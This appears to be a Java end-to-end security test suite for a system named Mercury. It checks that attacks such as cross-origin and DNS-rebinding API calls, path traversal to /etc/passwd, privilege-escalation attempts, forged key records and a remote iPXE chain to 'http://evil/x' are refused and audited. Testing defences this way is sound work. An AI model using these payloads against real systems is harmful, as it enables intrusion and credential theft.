package io.mercury.cli.stack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.mongodb.client.MongoClient;
import com.mongodb.client.MongoClients;
import com.mongodb.client.MongoCollection;
import com.mongodb.client.model.Filters;
import io.mercury.common.protocol.Request;
import io.mercury.common.security.CurveClient;
import io.mercury.common.security.CurveKeyPair;
import io.mercury.common.security.KeyDirectory;
import io.mercury.common.security.KeyFiles;
import io.mercury.common.security.Role;
import io.mercury.common.transport.ClientSettings;
import io.mercury.common.transport.RemoteException;
import io.mercury.common.transport.ServiceClient;
import io.mercury.common.transport.TransportException;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermission;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.bson.Document;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.io.TempDir;

/**
 * Security issue 14's findings F3–F12 attempted against the real stack (every daemon a process of its
 * own, CURVE on, the boot service with auto enrolment and the token-less loopback API as {@code mercury
 * up} runs them), each with the weakest credential that could try it: nothing (HTTP, the enrolment
 * socket), a read-only operator key, an agent key bound to another device, a daemon key. Each is refused
 * with a clear error and, where docs/security.md says so, audited; the legitimate flows around them (enrol
 * with a token, register, heartbeats, tasks, inspector updates, re-registration after a restart, key
 * replacement by an operator) still work. F1, F2 and F13 are {@link HostileAgentTest}'s.
 */
@Tag("e2e")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileStackTest {
  private static final String VICTIM_UUID = "00000000-0000-4000-8000-0000000000d1";
  private static final String MALLORY_UUID = "00000000-0000-4000-8000-0000000000e2";
  private static final int AUTO_TOKENS_PER_MINUTE = 5;
  private static final int PENDING_PER_SOURCE = 4;
  private static final Pattern TOKEN = Pattern.compile("MERCURY_ENROL_TOKEN=(\\S+)");

  private TestStack stack;
  private TestStack.Service backend;
  private TestStack.Service rpc;
  private TestStack.Agent victim;
  private TestStack.Agent mallory;
  private String boot;
  private String api;
  private Path bootFiles;
  private MongoClient store;
  /** One client per caller key, address and timeout, closed before the stack's context. */
  private final Map<String, ServiceClient> clients = new LinkedHashMap<>();

  @BeforeAll
  void start(@TempDir Path home) throws Exception {
    assumeTrue(TestStack.packaged(), "the modules are not packaged; run the suite with bin/mercury test (mvn verify)");
    assumeTrue(Stream.of("mercury-boot", "mercury-api").allMatch(m -> Files.isDirectory(root().resolve(m).resolve("target/lib"))));
    stack = new TestStack(home).withLogService().withDistinctMacs();
    // a read-only operator: the weakest operator credential (mcli keygen --role read-only)
    KeyDirectory.ensure(stack.keysDir(), List.of(), "reader", Role.READ_ONLY);
    stack.startCore();
    rpc = stack.rpc("rpc");
    backend =
        stack.backend(
            "dc-a",
            List.of(
                "--backend-enrolment-auto-tokens-per-minute", Integer.toString(AUTO_TOKENS_PER_MINUTE),
                "--backend-enrolment-max-pending-per-source", Integer.toString(PENDING_PER_SOURCE),
                "--backend-enrolment-pending-ttl", "8"));
    victim = stack.agent("victim", backend, VICTIM_UUID);
    mallory = stack.agent("mallory", backend, MALLORY_UUID);
    bootFiles = Files.createDirectories(home.resolve("boot-files"));
    boot = stack.boot(backend, bootFiles, true);
    api = stack.api(rpc);
    store = MongoClients.create(stack.store());
  }

  @AfterAll
  void stop() {
    List<AutoCloseable> all = new ArrayList<>(clients.values());
    all.add(store);
    all.add(stack);
    for (AutoCloseable c : all) {
      try {
        if (c != null) {
          c.close();
        }
      } catch (Exception e) {
        // closing what is left
      }
    }
  }

  /** A daemon's whole log. */
  private String logOf(String name) throws IOException {
    return Files.readString(stack.layout().log(name), StandardCharsets.ISO_8859_1);
  }

  private static Path root() {
    return Path.of(System.getProperty("mercury.test.root", "..")).toAbsolutePath().normalize();
  }

  // ---------------------------------------------------------------- callers

  private ServiceClient as(CurveKeyPair key, String address, String server) {
    return as(key, address, server, Duration.ofSeconds(10));
  }

  /** As {@link #as(CurveKeyPair, String, String)}; a caller expected to fail the handshake waits briefly. */
  private ServiceClient as(CurveKeyPair key, String address, String server, Duration timeout) {
    return clients.computeIfAbsent(
        key.publicKey() + " " + address + " " + timeout,
        k -> {
          String serverKey = KeyFiles.loadPublic(KeyFiles.publicFile(stack.keysDir(), server)).publicKey();
          return new ServiceClient(
              stack.zmq(), address,
              ClientSettings.defaults(server).withTimeout(timeout).withRetries(0).withCurve(new CurveClient(key, serverKey)));
        });
  }

  private CurveKeyPair malloryKey() {
    return KeyFiles.load(stack.agentState("mallory"), "agent");
  }

  private CurveKeyPair key(String name) {
    return KeyFiles.load(stack.keysDir(), name);
  }

  private ServiceClient operatorTo(String address, String server) {
    return as(key("operator"), address, server);
  }

  /** A client of the backend's enrolment socket with a key nobody knows yet. */
  private ServiceClient enrolling(CurveKeyPair key) {
    return as(key, stack.enrolmentAddress(backend), "backend");
  }

  private static Map<?, ?> enrol(ServiceClient client, String mercuryId, String token) throws Exception {
    List<Object> args = new ArrayList<>();
    args.add(mercuryId);
    args.add("host-" + mercuryId.substring(0, 8));
    args.add(token);
    return (Map<?, ?>) client.invoke(new Request("enrol", args, Map.of()), false);
  }

  private List<Map<?, ?>> keys(String status) throws Exception {
    Map<?, ?> reply = (Map<?, ?>) operatorTo(backend.address(), "backend").invoke(new Request("list_keys", List.of(), Map.of("status", status)), true);
    List<Map<?, ?>> keys = new ArrayList<>();
    ((List<?>) reply.get("keys")).forEach(k -> keys.add((Map<?, ?>) k));
    return keys;
  }

  private Map<?, ?> device(String mercuryId) throws Exception {
    return (Map<?, ?>) operatorTo(stack.inventory(), "inventory").invoke(Request.of("get_one", mercuryId), true);
  }

  private MongoCollection<Document> audit() {
    return store.getDatabase("mercury_security").getCollection("audit");
  }

  private List<Document> audited(String who, String action, String outcome) {
    return audit().find(Filters.and(Filters.eq("who.name", who), Filters.eq("action", action), Filters.eq("outcome", outcome)))
        .into(new ArrayList<>());
  }

  private static String randomMac() {
    java.util.concurrent.ThreadLocalRandom r = java.util.concurrent.ThreadLocalRandom.current();
    return String.format("52:54:%02x:%02x:%02x:%02x", r.nextInt(256), r.nextInt(256), r.nextInt(256), r.nextInt(256));
  }

  // ---------------------------------------------------------------- HTTP as any web page or script could

  /** An HTTP answer: status, headers (lower-case names), body. */
  record Reply(int status, Map<String, String> headers, String body) {}

  /** One request over a fresh connection, sent byte for byte as given (Host, Origin and all). */
  private static Reply http(String base, String method, String path, String body, String... headers) throws IOException {
    java.net.URI uri = java.net.URI.create(base);
    try (Socket socket = new Socket(uri.getHost(), uri.getPort())) {
      socket.setSoTimeout(30_000);
      StringBuilder request = new StringBuilder(method + " " + path + " HTTP/1.1\r\n");
      boolean host = false;
      for (String h : headers) {
        host |= h.toLowerCase(Locale.ROOT).startsWith("host:");
        request.append(h).append("\r\n");
      }
      if (!host) {
        request.append("Host: ").append(uri.getHost()).append(':').append(uri.getPort()).append("\r\n");
      }
      byte[] content = body == null ? new byte[0] : body.getBytes(StandardCharsets.UTF_8);
      if (body != null) {
        request.append("Content-Length: ").append(content.length).append("\r\n");
      }
      request.append("Connection: close\r\n\r\n");
      OutputStream out = socket.getOutputStream();
      out.write(request.toString().getBytes(StandardCharsets.ISO_8859_1));
      out.write(content);
      out.flush();
      return parse(socket.getInputStream().readAllBytes());
    }
  }

  private static Reply parse(byte[] raw) throws IOException {
    String text = new String(raw, StandardCharsets.ISO_8859_1);
    int end = text.indexOf("\r\n\r\n");
    String[] head = text.substring(0, end).split("\r\n");
    int status = Integer.parseInt(head[0].split(" ")[1]);
    Map<String, String> headers = new LinkedHashMap<>();
    for (int i = 1; i < head.length; i++) {
      int colon = head[i].indexOf(':');
      headers.put(head[i].substring(0, colon).trim().toLowerCase(Locale.ROOT), head[i].substring(colon + 1).trim());
    }
    byte[] body = java.util.Arrays.copyOfRange(raw, end + 4, raw.length);
    if ("chunked".equalsIgnoreCase(headers.get("transfer-encoding"))) {
      body = dechunk(new java.io.ByteArrayInputStream(body));
    }
    return new Reply(status, headers, new String(body, StandardCharsets.UTF_8));
  }

  private static byte[] dechunk(InputStream in) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    while (true) {
      StringBuilder line = new StringBuilder();
      int c;
      while ((c = in.read()) != -1 && c != '\n') {
        if (c != '\r') {
          line.append((char) c);
        }
      }
      int size = line.isEmpty() ? 0 : Integer.parseInt(line.toString().split(";")[0].trim(), 16);
      if (size == 0) {
        return out.toByteArray();
      }
      out.write(in.readNBytes(size));
      in.read();
      in.read();
    }
  }

  private static void assertNoExceptionText(Reply r) {
    assertThat(r.body()).doesNotContain("Exception", "\tat ", "For input string", "java.", "org.eclipse", "io.mercury");
  }

  // ---------------------------------------------------------------- the legitimate flows

  @Test
  @Order(1)
  void agentsEnrolledWithTokensRegisterHeartbeatReportTheirMachinesAndRunTasks() throws Exception {
    for (TestStack.Agent agent : List.of(victim, mallory)) {
      Map<?, ?> doc = device(agent.mercuryId());
      assertThat(((Map<?, ?>) doc.get("dmi")).get("product_uuid").toString()).isIn(VICTIM_UUID, MALLORY_UUID);
      assertThat(stack.activeOrigin(agent.mercuryId())).isEqualTo("dc-a");
    }
    assertThat(keys("accepted")).extracting(k -> (Object) k.get("name")).contains(victim.mercuryId(), mallory.mercuryId());
    assertThat(audit().countDocuments(Filters.and(Filters.eq("action", "enrol"), Filters.eq("outcome", "ok")))).isGreaterThanOrEqualTo(2);
    ServiceClient operator = operatorTo(rpc.address(), "rpc");
    Map<?, ?> job =
        (Map<?, ?>) operator.invoke(
            Request.of("create_job", Map.of("mercury_id", victim.mercuryId()), Map.of("method", "echo", "args", List.of("legit"))), false);
    String jobId = (String) job.get("job_id");
    await().atMost(Duration.ofSeconds(60))
        .until(() -> ((Map<?, ?>) operator.invoke(Request.of("get_job", jobId), true)).get("time_completed") != null);
    List<?> tasks = (List<?>) ((Map<?, ?>) operator.invoke(Request.of("get_job_tasks", jobId), true)).get("tasks");
    assertThat(tasks).singleElement().satisfies(t -> assertThat(((Map<?, ?>) t).get("status")).isEqualTo("SUCCESS"));
  }

  // ---------------------------------------------------------------- F3

  @Test
  @Order(10)
  void f3_anEnrolmentTokenIsNeverInClearAndTheStoreAndKeysAreOwnerOnly() throws Exception {
    String token = stack.token(backend);
    // used once, by a new device's key, so the enrolment is audited too
    Map<?, ?> enrolled = enrol(enrolling(CurveKeyPair.generate()), TestStack.mercuryIdOf("00000000-0000-4000-8000-0000000003f3"), token);
    assertThat(enrolled.get("status")).isEqualTo("accepted");

    // the trail as a read-only caller reads it (mcli audit --json), and as the store holds it
    Map<?, ?> trail =
        (Map<?, ?>) as(key("reader"), stack.logService(), "log").invoke(new Request("query_audit", List.of(), Map.of("limit", 1000L)), true);
    assertThat((Long) trail.get("count")).isPositive();
    assertThat(trail.toString()).doesNotContain(token).contains("[secret]");
    assertThat(audit().find().into(new ArrayList<>()).toString()).doesNotContain(token);
    // every daemon's log and the store's file
    try (Stream<Path> logs = Files.list(stack.layout().logs())) {
      for (Path log : logs.toList()) {
        assertThat(Files.readString(log, StandardCharsets.ISO_8859_1)).as(log.toString()).doesNotContain(token);
      }
    }
    Path storeFile = stack.layout().data().resolve("mercury.mv.db");
    assertThat(new String(Files.readAllBytes(storeFile), StandardCharsets.ISO_8859_1)).doesNotContain(token);

    Set<PosixFilePermission> ownerOnlyDir = PosixFilePermissions.fromString("rwx------");
    for (Path dir : List.of(stack.layout().home(), stack.layout().data(), stack.layout().logs(), stack.layout().run(), stack.keysDir())) {
      assertThat(Files.getPosixFilePermissions(dir)).as(dir.toString()).isEqualTo(ownerOnlyDir);
    }
    for (Path secret : List.of(storeFile, KeyFiles.secretFile(stack.keysDir(), "backend"), KeyFiles.secretFile(stack.keysDir(), "operator"),
        stack.keysDir().resolve("store.seal"), KeyFiles.secretFile(stack.agentState("mallory"), "agent"))) {
      assertThat(Files.getPosixFilePermissions(secret)).as(secret.toString())
          .doesNotContain(PosixFilePermission.GROUP_READ, PosixFilePermission.OTHERS_READ, PosixFilePermission.GROUP_WRITE, PosixFilePermission.OTHERS_WRITE);
    }
  }

  // ---------------------------------------------------------------- F4

  private Reply discover(String mac) throws IOException {
    Reply r = http(boot, "GET", "/boot/discover/" + mac, null);
    assertThat(r.status()).as(r.body()).isEqualTo(200);
    return r;
  }

  private static String tokenIn(Reply script) {
    Matcher m = TOKEN.matcher(script.body());
    return m.find() ? m.group(1) : null;
  }

  @Test
  @Order(20)
  void f4_bootingAgentsGetOneLiveTokenPerNewMacAtAGlobalRateAndEveryMintIsAudited() throws Exception {
    MongoCollection<Document> tokens = store.getDatabase("mercury_security").getCollection("enrolment_tokens");
    long started = System.nanoTime();
    String mac = randomMac();
    String first = tokenIn(discover(mac));
    String second = tokenIn(discover(mac));
    assertThat(first).isNotNull();
    assertThat(second).isNotNull().isNotEqualTo(first);
    assertThat(tokens.countDocuments(Filters.eq("mac", mac))).as("one live token per MAC").isEqualTo(1);

    // a MAC whose device already has an accepted key gets none
    String victimMac = TestStack.macOf(VICTIM_UUID, 0);
    assertThat(discover(victimMac).body()).doesNotContain("MERCURY_ENROL_TOKEN").contains("MERCURY_BACKEND_KEY=");
    assertThat(tokens.countDocuments(Filters.eq("mac", victimMac))).isZero();

    // a burst of new MACs: no more than the rate, whoever asks
    int minted = 2;
    int refused = 0;
    for (int i = 0; i < 3 * AUTO_TOKENS_PER_MINUTE; i++) {
      if (tokenIn(discover(randomMac())) != null) {
        minted++;
      } else {
        refused++;
      }
    }
    long refill = Duration.ofNanos(System.nanoTime() - started).toSeconds() / (60 / AUTO_TOKENS_PER_MINUTE);
    assertThat(minted).isLessThanOrEqualTo(AUTO_TOKENS_PER_MINUTE + (int) refill);
    assertThat(refused).isPositive();

    // every mint and every refusal is in the trail, without the token
    List<Document> ok = audited("boot", "create_enrolment_token", "ok");
    assertThat(ok).hasSize(minted);
    assertThat(ok.toString()).doesNotContain(first, second);
    assertThat(audit().countDocuments(Filters.and(Filters.eq("who.name", "boot"), Filters.eq("action", "create_enrolment_token"), Filters.ne("outcome", "ok"))))
        .isEqualTo(refused + 1L);

    // the replaced token is dead (the key waits for an operator); the live one lets a booting agent in
    Map<?, ?> withDead = enrol(enrolling(CurveKeyPair.generate()), TestStack.mercuryIdOf("00000000-0000-4000-8000-0000000004f4"), first);
    assertThat(withDead.get("status")).isEqualTo("pending");
    assertThat(enrol(enrolling(CurveKeyPair.generate()), TestStack.mercuryIdOf("00000000-0000-4000-8000-0000000004f5"), second).get("status"))
        .isEqualTo("accepted");
    Map<?, ?> rejected =
        (Map<?, ?>) operatorTo(backend.address(), "backend").invoke(Request.of("set_key_status", List.of(withDead.get("fingerprint")), "rejected"), false);
    assertThat(rejected.get("errors")).isEqualTo(List.of());
  }

  // ---------------------------------------------------------------- F5

  @Test
  @Order(30)
  void f5_anAgentKeyAndADaemonKeyCallOnlyWhatTheyNeedAndRefusalsAreAudited() throws Exception {
    ServiceClient malloryToInventory = as(malloryKey(), stack.inventory(), "inventory");
    ServiceClient malloryToBackend = as(malloryKey(), backend.address(), "backend");
    ServiceClient malloryToRpc = as(malloryKey(), rpc.address(), "rpc");
    assertThatThrownBy(() -> malloryToInventory.invoke(Request.of("update_boot", victim.mercuryId(), Map.of("script", "#!ipxe\nchain http://evil/x")), false))
        .isInstanceOf(RemoteException.class)
        .hasMessage("Permission denied: update_boot needs role operator; " + mallory.mercuryId() + " has agent");
    assertThatThrownBy(() -> malloryToBackend.invoke(Request.of("set_key_status", List.of(victim.mercuryId()), "revoked"), false))
        .hasMessage("Permission denied: set_key_status needs role admin; " + mallory.mercuryId() + " has agent");
    assertThatThrownBy(() -> malloryToRpc.invoke(
            new Request("create_job", List.of(Map.of(), Map.of("method", "run", "args", List.of("id"))), Map.of("requested_by", "operator")), false))
        .hasMessage("Permission denied: create_job needs role operator; " + mallory.mercuryId() + " has agent");
    for (String action : List.of("update_boot", "set_key_status", "create_job")) {
      assertThat(audited(mallory.mercuryId(), action, "denied")).as(action).isNotEmpty();
    }

    // the boot service's key: devices and tokens for a booting MAC, nothing else
    ServiceClient bootToBackend = as(key("boot"), backend.address(), "backend");
    ServiceClient bootToRpc = as(key("boot"), rpc.address(), "rpc");
    ServiceClient bootToInventory = as(key("boot"), stack.inventory(), "inventory");
    assertThatThrownBy(() -> bootToBackend.invoke(Request.of("set_key_status", List.of(victim.mercuryId()), "revoked"), false))
        .hasMessageStartingWith("Permission denied: set_key_status needs role admin; boot has service");
    assertThatThrownBy(() -> bootToBackend.invoke(new Request("create_enrolment_token", List.of(), Map.of("uses", 100L)), false))
        .hasMessageContaining("only for a booting agent's mac");
    assertThatThrownBy(() -> bootToRpc.invoke(Request.of("create_job", Map.of(), Map.of("method", "echo")), false))
        .hasMessageStartingWith("Permission denied: create_job needs role operator; boot has service");
    assertThatThrownBy(() -> bootToInventory.invoke(Request.of("update_boot", victim.mercuryId(), Map.of("state", "rescue")), false))
        .hasMessageStartingWith("Permission denied: update_boot needs role operator; boot has service");
    assertThat(audited("boot", "set_key_status", "denied")).isNotEmpty();
    assertThat(audited("boot", "update_boot", "denied")).isNotEmpty();
    assertThat(stack.activeOrigin(victim.mercuryId())).isEqualTo("dc-a");
    assertThat(device(victim.mercuryId()).get("boot")).isNull();

    // only the frontend sets requested_by: the authenticated caller's name, whatever the request says
    ServiceClient operator = operatorTo(rpc.address(), "rpc");
    Map<?, ?> job =
        (Map<?, ?>) operator.invoke(
            new Request("create_job", List.of(Map.of("mercury_id", victim.mercuryId()), Map.of("method", "echo", "args", List.of("who"))),
                Map.of("requested_by", "someone-else")), false);
    Map<?, ?> stored = (Map<?, ?>) operator.invoke(Request.of("get_job", job.get("job_id")), true);
    assertThat(stored.get("requested_by")).isEqualTo("operator");
    assertThat(audited("operator", "create_job", "ok")).isNotEmpty();
  }

  // ---------------------------------------------------------------- F6, F11 (the HTTP API)

  private static final String JOB = "{\"query\": {}, \"instruction\": {\"method\": \"echo\", \"args\": [\"pwned\"]}}";

  private long jobs() {
    long jobs = 0;
    for (String db : store.listDatabaseNames()) {
      if (store.getDatabase(db).listCollectionNames().into(new ArrayList<>()).contains("rpc_jobs")) {
        jobs += store.getDatabase(db).getCollection("rpc_jobs").countDocuments();
      }
    }
    return jobs;
  }

  private static void assertJsonError(Reply r, int status, String message) {
    assertThat(r.status()).as(r.body()).isEqualTo(status);
    assertThat(r.headers().get("content-type")).startsWith("application/json");
    assertThat(r.body()).contains("\"error\":true").contains(message);
    assertNoExceptionText(r);
  }

  @Test
  @Order(40)
  void f6_aWebPageCannotChangeAnythingThroughTheTokenlessLoopbackApi() throws Exception {
    long before = jobs();
    assertJsonError(http(api, "POST", "/api/rpc/jobs", JOB, "Content-Type: text/plain", "Origin: http://evil.example"),
        403, "Origin 'http://evil.example' may not change anything here");
    assertJsonError(http(api, "POST", "/api/rpc/jobs", JOB, "Content-Type: text/plain"),
        415, "POST needs Content-Type: application/json, got 'text/plain'");
    assertJsonError(http(api, "POST", "/api/rpc/jobs", "a=b", "Content-Type: application/x-www-form-urlencoded"), 415, "needs Content-Type: application/json");
    assertJsonError(http(api, "POST", "/api/rpc/jobs", JOB, "Content-Type: application/json", "Origin: http://evil.example"),
        403, "may not change anything here");
    // DNS rebinding: evil.example resolved to 127.0.0.1, the browser still says whose page it is
    int port = java.net.URI.create(api).getPort();
    assertJsonError(http(api, "POST", "/api/rpc/jobs", JOB, "Host: evil.example:" + port, "Content-Type: application/json"),
        421, "api.allowed_hosts");
    assertJsonError(http(api, "GET", "/api/inventory/computers", null, "Host: evil.example:" + port), 421, "is not one of the names this API answers to");
    assertThat(jobs()).as("no job was created").isEqualTo(before);

    // the operator's own requests still work, and are audited as the API acting for the client
    Reply ours = http(api, "POST", "/api/rpc/jobs",
        "{\"query\": {\"mercury_id\": \"" + victim.mercuryId() + "\"}, \"instruction\": {\"method\": \"echo\", \"args\": [\"via api\"]}}",
        "Content-Type: application/json; charset=utf-8", "Origin: http://127.0.0.1:" + port);
    assertThat(ours.status()).as(ours.body()).isEqualTo(200);
    assertThat(jobs()).isEqualTo(before + 1);
    assertThat(audit().find(Filters.and(Filters.eq("action", "create_job"), Filters.regex("who.name", "^api"), Filters.eq("outcome", "ok"))).first())
        .isNotNull();
  }

  @Test
  @Order(41)
  void f11_aBodyNestedThousandsDeepIs400() throws Exception {
    String deep = "{\"query\": " + "[".repeat(5000) + "]".repeat(5000) + "}";
    for (String path : List.of("/api/inventory/computers/query", "/api/rpc/jobs", "/api/inventory/computers/count")) {
      assertJsonError(http(api, "POST", path, deep, "Content-Type: application/json"),
          400, "request body is nested deeper than 64 levels of objects and arrays");
    }
    assertThat(http(api, "GET", "/api/active/computers", null).status()).as("the API still answers").isEqualTo(200);
  }

  // ---------------------------------------------------------------- F7

  @Test
  @Order(50)
  void f7_keysWithoutATokenAreCappedPerSourceAndExpireAndTheRealAgentsStillGetIn() throws Exception {
    // every key here comes from 127.0.0.1: start from none pending
    await().atMost(Duration.ofSeconds(60)).until(() -> keys("pending").isEmpty());
    List<String> flood = new ArrayList<>();
    for (int i = 0; i < PENDING_PER_SOURCE; i++) {
      Map<?, ?> reply = enrol(enrolling(CurveKeyPair.generate()), TestStack.mercuryIdOf(String.format("00000000-0000-4000-8000-0000000007%02x", i)), null);
      assertThat(reply.get("status")).isEqualTo("pending");
      flood.add((String) reply.get("fingerprint"));
    }
    assertThatThrownBy(() -> enrol(enrolling(CurveKeyPair.generate()), TestStack.mercuryIdOf("00000000-0000-4000-8000-0000000007ff"), null))
        .isInstanceOf(RemoteException.class)
        .hasMessageContaining("too many keys from 127.0.0.1 are pending (" + PENDING_PER_SOURCE + ", the limit per address is " + PENDING_PER_SOURCE + ")");
    // a real agent with a token is not crowded out
    String token = stack.token(backend);
    assertThat(enrol(enrolling(CurveKeyPair.generate()), TestStack.mercuryIdOf("00000000-0000-4000-8000-000000000770"), token).get("status"))
        .isEqualTo("accepted");
    // pending keys expire (backend.enrolment.pending_ttl, 8 s here); then new ones are taken again
    await().atMost(Duration.ofSeconds(60))
        .until(() -> keys("pending").stream().noneMatch(k -> flood.contains(k.get("fingerprint"))));
    assertThat(enrol(enrolling(CurveKeyPair.generate()), TestStack.mercuryIdOf("00000000-0000-4000-8000-0000000007fe"), null).get("status"))
        .isEqualTo("pending");
  }

  @Test
  @Order(51)
  void f7_aSecondKeyForABoundDeviceStaysPendingEvenWithATokenAndAcceptByNameRefusesIt() throws Exception {
    String token = stack.token(backend);
    CurveKeyPair intruder = CurveKeyPair.generate();
    Map<?, ?> reply = enrol(enrolling(intruder), victim.mercuryId(), token);
    assertThat(reply.get("status")).isEqualTo("pending");
    assertThat((String) reply.get("message")).contains("device " + victim.mercuryId() + " already has accepted key");
    String fingerprint = (String) reply.get("fingerprint");
    Map<?, ?> listed = keys("pending").stream().filter(k -> fingerprint.equals(k.get("fingerprint"))).findFirst().orElseThrow();
    assertThat(listed.get("conflict")).isNotNull();

    // mcli keys accept <the victim's id> and mcli keys accept <fingerprint>: neither lets it in
    ServiceClient admin = operatorTo(backend.address(), "backend");
    for (String ref : List.of(victim.mercuryId(), fingerprint)) {
      Map<?, ?> accepted = (Map<?, ?>) admin.invoke(Request.of("set_key_status", List.of(ref), "accepted"), false);
      assertThat(accepted.get("changed")).as(ref).isEqualTo(List.of());
      assertThat(accepted.toString()).as(ref).containsAnyOf("already has accepted key", "keys claim");
    }
    assertThat(keys("pending")).extracting(k -> (Object) k.get("fingerprint")).contains(fingerprint);
    // the token was not spent on it: it still lets a new device in
    assertThat(enrol(enrolling(CurveKeyPair.generate()), TestStack.mercuryIdOf("00000000-0000-4000-8000-000000000771"), token).get("status"))
        .isEqualTo("accepted");
    assertThat(stack.activeOrigin(victim.mercuryId())).isEqualTo("dc-a");
    // and the intruder cannot reach the main socket
    assertThatThrownBy(() -> as(intruder, backend.address(), "backend", Duration.ofSeconds(2)).invoke(Request.of("heartbeat", victim.mercuryId()), false))
        .isInstanceOf(TransportException.class);
  }

  // ---------------------------------------------------------------- F8

  @Test
  @Order(60)
  void f8_aKeyRecordForgedInTheStoreIsIgnored() throws Exception {
    MongoCollection<Document> keys = store.getDatabase("mercury_security").getCollection("keys");
    String operatorKey = key("operator").publicKey();
    Document original = keys.find(Filters.eq("_id", operatorKey)).first();
    assertThat(original).as("the operator's key record").isNotNull();
    CurveKeyPair forger = CurveKeyPair.generate();
    Document forged = new Document(original);
    forged.put("_id", forger.publicKey());
    forged.put("name", "operator");
    keys.insertOne(forged);

    // a changed record: the read-only operator made admin
    String readerKey = key("reader").publicKey();
    Document reader = keys.find(Filters.eq("_id", readerKey)).first();
    assertThat(reader).isNotNull();
    keys.updateOne(Filters.eq("_id", readerKey), new Document("$set", new Document("role", "admin")));
    try {
      // written past the daemons: found at their next full read of the keys (every 20 s)
      await().atMost(Duration.ofSeconds(60)).until(() -> logOf("dc-a").contains("fails its seal"));
      assertThatThrownBy(() -> as(forger, backend.address(), "backend", Duration.ofSeconds(2)).invoke(Request.of("set_key_status", List.of(victim.mercuryId()), "revoked"), false))
          .isInstanceOf(TransportException.class);
      assertThatThrownBy(() -> as(forger, stack.inventory(), "inventory", Duration.ofSeconds(2)).invoke(Request.of("delete", victim.mercuryId()), false))
          .isInstanceOf(TransportException.class);
      try {
        as(key("reader"), backend.address(), "backend", Duration.ofSeconds(2)).invoke(Request.of("set_key_status", List.of(victim.mercuryId()), "revoked"), false);
        throw new AssertionError("the reader made admin in the store revoked a key");
      } catch (RemoteException | TransportException e) {
        assertThat(e.getMessage()).doesNotContain("changed");
      }
    } finally {
      keys.deleteOne(Filters.eq("_id", forger.publicKey()));
      keys.replaceOne(Filters.eq("_id", readerKey), reader);
    }
    // the genuine record again: the reader is let back in at the next reload, read-only as before
    ServiceClient readerToLog = as(key("reader"), stack.logService(), "log");
    await().atMost(Duration.ofSeconds(30)).ignoreExceptions()
        .until(() -> readerToLog.invoke(new Request("query_audit", List.of(), Map.of("limit", 1L)), true) != null);
    assertThat(logOf("dc-a")).contains("fails its seal: it was not written by a Mercury daemon; ignoring it");
    assertThat(keys("accepted")).extracting(k -> (Object) k.get("name")).contains(victim.mercuryId());
    assertThat(stack.activeOrigin(victim.mercuryId())).isEqualTo("dc-a");
  }

  // ---------------------------------------------------------------- F9

  @Test
  @Order(70)
  void f9_theLogServiceStoresWhoSentARecordNotWhoItClaims() throws Exception {
    ServiceClient malloryToLog = as(malloryKey(), stack.logService(), "log");
    Map<String, Object> event = new LinkedHashMap<>();
    event.put("time", System.currentTimeMillis() / 1000.0);
    event.put("level", "INFO");
    event.put("message", "task t-f9 sent to 10.0.0.9");
    event.put("host", "h1");
    event.put("service", "mercury-backend");
    event.put("mercury_id", victim.mercuryId());
    Map<?, ?> reply = (Map<?, ?>) malloryToLog.invoke(Request.of("log_batch", List.of(event)), false);
    assertThat(reply.get("stored")).isEqualTo(1L);

    ServiceClient operator = operatorTo(stack.logService(), "log");
    Map<?, ?> found = (Map<?, ?>) operator.invoke(new Request("query_logs", List.of(Map.of("identity", "mismatch")), Map.of()), true);
    Map<?, ?> stored =
        ((List<?>) found.get("events")).stream().map(e -> (Map<?, ?>) e)
            .filter(e -> "task t-f9 sent to 10.0.0.9".equals(e.get("message"))).findFirst().orElseThrow();
    assertThat(stored.get("service")).isEqualTo("mercury-agent");
    assertThat(stored.get("mercury_id")).isEqualTo(mallory.mercuryId());
    assertThat(stored.get("claimed")).isEqualTo(Map.of("service", "mercury-backend", "mercury_id", victim.mercuryId()));
    Map<?, ?> asVictim = (Map<?, ?>) operator.invoke(new Request("query_logs", List.of(Map.of("mercury_id", victim.mercuryId(), "service", "mercury-backend")), Map.of()), true);
    assertThat(asVictim.toString()).doesNotContain("t-f9");
    // an operator may not send records at all
    assertThatThrownBy(() -> as(key("reader"), stack.logService(), "log").invoke(Request.of("log_batch", List.of(event)), false))
        .hasMessage("Permission denied: log_batch needs role agent; reader has read-only");
    assertThat(audited("reader", "log_batch", "denied")).isNotEmpty();
  }

  // ---------------------------------------------------------------- F10

  @Test
  @Order(80)
  void f10_theBootServiceServesNoFileOutsideItsDirectoryAndNoExceptionText() throws Exception {
    byte[] kernel = new byte[1000];
    java.util.Arrays.fill(kernel, (byte) 'k');
    Files.write(bootFiles.resolve("vmlinuz"), kernel);
    Files.createSymbolicLink(bootFiles.resolve("passwd"), Path.of("/etc/passwd"));
    Files.createSymbolicLink(bootFiles.resolve("keys"), stack.keysDir());
    Files.createSymbolicLink(bootFiles.resolve("up"), Path.of(".."));
    for (String path : List.of("/files/passwd", "/files/keys/operator.key", "/files/up/keys/operator.key", "/files/../../../../etc/passwd",
        "/files/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/files/..%2f..%2f..%2fetc%2fpasswd")) {
      Reply r = http(boot, "GET", path, null);
      assertThat(r.status()).as(path + ": " + r.body()).isIn(400, 403, 404);
      assertThat(r.body()).as(path).doesNotContain("root:", "secret-key", "curve");
      assertNoExceptionText(r);
    }
